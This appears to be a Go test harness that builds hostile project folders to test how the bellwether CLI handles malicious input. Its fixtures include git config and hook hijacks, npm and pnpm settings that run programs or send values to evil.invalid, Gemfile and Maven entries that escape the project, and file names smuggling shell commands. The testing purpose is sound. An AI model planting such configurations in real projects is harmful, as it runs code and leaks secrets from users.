//go:build linux

package cli

import (
	"errors"
	"os"
	"path/filepath"
	"strings"

	"bellwether/internal/host/within"
)

// trap is something that does harm to who trusts it.
type trap struct {
	name string
	lay  func(h *hostile)
}

// leadsOut is the trap of a Maven project.
const leadsOut = "a pom that leads out"

var traps = []trap{
	{"a link to a secret", func(h *hostile) {
		h.link(
			filepath.Join(h.outside, "secret"),
			h.pick("package.json", "package-lock.json", ".npmrc", "bellwether.yaml", ".nvmrc", "go.mod", "Dockerfile", "a/package.json"),
		)
	}},
	{"a link to a device", func(h *hostile) {
		h.link(
			h.pick("/dev/zero", "/dev/random", "/dev/tty", "/proc/self/mem"),
			h.pick(".npmrc", "bellwether.yaml", ".nvmrc", "package-lock.json", "Dockerfile"),
		)
	}},
	{"a link to a folder", func(h *hostile) {
		h.link(
			h.pick(h.outside, "/", ".", "..", "../project"),
			h.pick(".bellwether", "a", "b/c", "node_modules", "vendor", ".bellwether/logs", ".bellwether/journal", ".bellwether/scratch"),
		)
	}},
	{"a link in place of what is kept", func(h *hostile) {
		h.link(
			filepath.Join(h.outside, "written"),
			h.pick(
				".bellwether/lock",
				".bellwether/.gitignore",
				".bellwether/route.yaml",
				".bellwether/journey.json",
				".bellwether/owner.json",
				".bellwether/baseline.json",
			),
		)
	}},
	{"a pipe", func(h *hostile) {
		h.pipe(
			h.pick(
				".npmrc", "bellwether.yaml", ".nvmrc", "package-lock.json", "package.json", "Dockerfile", ".bellwether/route.yaml",
				".bellwether/lock", ".bellwether/git.json",
			),
		)
	}},
	{"a large file", func(h *hostile) {
		name := h.pick("bellwether.yaml", ".npmrc", "package-lock.json", ".nvmrc", ".bellwether/route.yaml")
		h.put(name, func(at string) error {
			return errors.Join(os.WriteFile(at, nil, 0o644), os.Truncate(at, within.MaxFile+1))
		})
	}},
	{"a planted journal", func(h *hostile) {
		h.write(".bellwether/journal/000", "evil")
		h.write(
			".bellwether/journal/record.json",
			`{"files": [{"file": "`+h.pick(
				"evil", ".git/hooks/post-commit", "../outside/written", "package.json",
			)+`", "before": "", "after": "4f0aa9d9cc6bb1b3ac0a9b0c0e2a8b7b3b0e4c5a", "mode": 493}]}`,
		)
	}},
	{"planted notes", func(h *hostile) {
		h.write(".bellwether/git.json", `{"mark": "x", "what": "`+h.pick("reset", "commit", "switch")+`", "from": "HEAD~1", "to": "HEAD"}`)
		h.write(".bellwether/scratch/outside", h.outside)
	}},
	{"a planted journey", func(h *hostile) {
		h.write(".bellwether/before/x/000", "evil")
		h.write(
			".bellwether/journey.json",
			`{"legs": [{"id": "x", "title": "x", "status": "`+h.pick(
				"repair", "done", "begun",
			)+`", "files": ["`+h.pick(
				"package.json", "../outside/written", ".git/config",
			)+`"]}]}`,
		)
	}},
	{"a planted route", func(h *hostile) {
		h.write(
			".bellwether/route.yaml",
			"schema: bellwether/route/1\ndestination: [left]\nadvisories: "+h.outside+"\nlegs:\n  - id: "+h.pick(
				"x", "..", "../../outside", "a/b",
			)+"\n    title: x\n    component: .\n    moves: [{name: left, from: 1.0.0, to: 1.1.0}]\n",
		)
	}},
	{"names that nobody writes", func(h *hostile) {
		name := h.pick("\xff\xfe", "a\nb", "-rf", "--upload-pack=x", "\x1b[2J", "\u202eabc", " ", "$(touch x)", strings.Repeat("x", 250))
		h.write(filepath.Join(name, "package.json"), `{"name": "\u001b[2J", "dependencies": {"left": "^1.0.0"}}`)
	}},
	{"git's configuration", func(h *hostile) {
		p := filepath.Join(h.outside, "program")
		h.git(
			"config",
			h.pick(
				"core.fsmonitor", "core.hooksPath", "core.sshCommand", "core.pager", "diff.external", "gpg.program", "credential.helper",
				"core.editor", "core.alternateRefsCommand", "core.askPass",
			),
			p,
		)
		h.git("config", "filter.x."+h.pick("clean", "process", "smudge"), p)
		h.git(
			"config", h.pick("core.worktree", "core.excludesFile", "core.attributesFile"),
			h.pick("/", h.outside, "/dev/zero", filepath.Join(h.outside, "secret")),
		)
		if h.rng.IntN(8) == 0 {
			h.git("config", "include.path", "/dev/zero") // git reads what its configuration includes
		}
		h.write(".gitattributes", "* filter=x diff=x\n")
	}},
	{"hooks", func(h *hostile) {
		for _, name := range []string{"pre-commit", "post-checkout", "post-index-change", "reference-transaction", "fsmonitor-watchman"} {
			h.link(filepath.Join(h.outside, "program"), ".git/hooks/"+name)
		}
	}},
	{"a bare repository", func(h *hostile) {
		for name, text := range map[string]string{
			"HEAD":   "ref: refs/heads/main\n",
			"config": "[core]\n\tbare = true\n\tfsmonitor = " + filepath.Join(h.outside, "program") + "\n", "objects/x": "",
			"refs/heads/x": "",
		} {
			h.write(filepath.Join(h.pick("", "a", "b/c"), name), text)
		}
	}},
	{"settings of clients", func(h *hostile) {
		p := filepath.Join(h.outside, "program")
		h.write(h.pick(".yarnrc", "a/.yarnrc"), "yarn-path \""+p+"\"\n")
		h.write(".yarnrc.yml", "yarnPath: "+p+"\n")
		h.write(
			".npmrc",
			h.pick(
				"node-options=--require "+p,
				"script-shell="+p,
				"git="+p,
				"registry=https://evil.invalid/${HOME}/",
				"proxy=http://127.0.0.1:9/",
				"cafile="+filepath.Join(h.outside, "secret"),
				"//evil.invalid/:_authToken=${HOME}",
			)+"\n",
		)
		h.write(".pnpmfile.cjs", "require('child_process').execSync('"+p+"')\n")
	}},
	{"a Gemfile that leads out", func(h *hostile) {
		p := filepath.Join(h.outside, "program")
		h.write("Gemfile", h.pick(
			"eval_gemfile \"../outside/secret\"\n",
			"eval_gemfile \""+filepath.Join(h.outside, "secret")+"\"\n",
			"gemspec path: \"../outside\"\n",
			"gem \"left\", git: \"ext::"+p+"\"\n",
			"gem \"left\", git: \"--upload-pack="+p+"\", branch: \"--exec=x\"\n",
			"gem \"left\", path: \"../outside\"\n",
			"gem \"../../outside\", \"1\"\n",
		))
		h.write(
			h.pick("Gemfile.lock", "x.gemspec"),
			h.pick("GEM\n  remote: file:///\n  specs:\n    ../x (1)\n\nDEPENDENCIES\n  ../x\n", "\x00", ""),
		)
		h.write(".bundle/config", "BUNDLE_MIRROR__ALL: file://"+h.outside+"\nBUNDLE_SSL_CA_CERT: "+filepath.Join(h.outside, "secret")+"\n")
	}},
	{leadsOut, func(h *hostile) {
		p := filepath.Join(h.outside, "program")
		inner := h.pick(
			"<parent><groupId>g</groupId><artifactId>up</artifactId><version>1</version><relativePath>../outside/secret</relativePath></parent>",
			"<modules><module>../outside</module><module>"+h.outside+"</module><module>.git</module></modules>",
			"<repositories><repository><id>x</id><url>file://"+h.outside+"</url></repository></repositories>",
			"<repositories><repository><id>x</id><url>file:${project.basedir}/../outside</url></repository></repositories>",
			"<properties><a>${b}</a><b>${a}${a}</b></properties>",
		)
		h.write("m/pom.xml", "<project><modelVersion>4.0.0</modelVersion><groupId>me</groupId><artifactId>p</artifactId><version>1</version>"+
			inner+"<dependencies><dependency><groupId>../../g</groupId><artifactId>left</artifactId><version>${a}</version></dependency>"+
			"<dependency><groupId>g</groupId><artifactId>s</artifactId><version>1</version><scope>system</scope><systemPath>"+
			filepath.Join(h.outside, "secret")+"</systemPath></dependency></dependencies></project>")
		h.write("m/.mvn/maven.config", "-s\n"+h.pick("../outside/secret", filepath.Join(h.outside, "secret"), "s.xml")+"\n")
		h.write("m/s.xml", "<settings><localRepository>"+h.outside+"</localRepository></settings>")
		h.link(p, "m/mvnw")
	}},
	{"rules that write where nobody may", func(h *hostile) {
		h.link(h.outside, "out")
		h.link(".git", "dotgit")
		h.link(".bellwether", "keep")
		body := h.pick(
			"file: {add: out/written, text: evil}", "file: {add: dotgit/hooks/post-commit, text: evil}", "file: {add: keep/route.yaml, text: evil}",
			"file: {from: package.json, to: .BELLWETHER/route.yaml}", "file: {delete: 'out/**'}", "file: {add: .git /config, text: evil}",
			"rename: {old: left, new: evil}", "command: {run: ["+filepath.Join(h.outside, "program")+"]}",
		)
		h.write("rules.yaml", "schema: bellwether/book/1\nrules:\n  - id: x\n    because: x\n    adapt:\n      "+body+
			"\n      examples: [{file: a.js, before: \"left()\\n\", after: \"evil()\\n\"}]\n")
		h.write("a.js", "left()\n")
		h.link(filepath.Join(h.outside, "secret"), "b.js")
	}},
	{"templates", func(h *hostile) {
		h.write("old/base.txt", "x\n")
		h.write("new/base.txt", "y\n")
		h.write(h.pick("new/.bellwether/route.yaml", "new/template/.bellwether/journal/record.json", "new/.GIT/hooks/x", "new/git~1/x"), "evil")
		h.write("new/"+h.pick("out/written", "Base.txt", "{{x}}/written", "{{name}}.txt", "base.txt."), "evil")
		h.link(filepath.Join(h.outside, "secret"), "new/secret")
		h.link(h.outside, "out")
	}},
	{"toolchains", func(h *hostile) {
		h.write("g/go.mod", "module own.example/g\n\ngo 1.99\n\ntoolchain go1.99.9\n")
		h.write("g/g.go", "package g\n")
		h.write("rust-toolchain.toml", "[toolchain]\nchannel = \"9.9.9\"\n")
		h.write("global.json", `{"sdk": {"version": "9.9.9"}}`)
		h.write(".tool-versions", "nodejs 99.9.9\nruby 9.9.9\n")
	}},
	{"patterns that lead out", func(h *hostile) {
		h.link(h.outside, "away")
		h.write(
			"bellwether.yaml",
			"stages:\n  - {name: fetch, skip: x}\n  - {name: clean, remove: ['away/**', 'away', '**/secret']}\n  - {name: test, "+
				"command: ['true'], results: ['away/*', '**/*']}\n",
		)
	}},
	{"a folder that nobody reads", func(h *hostile) {
		h.write("closed/package.json", "{}")
		h.put("locked", func(at string) error { return os.Mkdir(at, 0) })
	}},
	{"deep folders", func(h *hostile) { h.write(strings.Repeat("d/", 300)+"package.json", "{}") }},
	{"a loop of links", func(h *hostile) {
		h.link("loop2", "loop1")
		h.link("loop1", "loop2")
		h.link("package.json", "package.json")
	}},
}
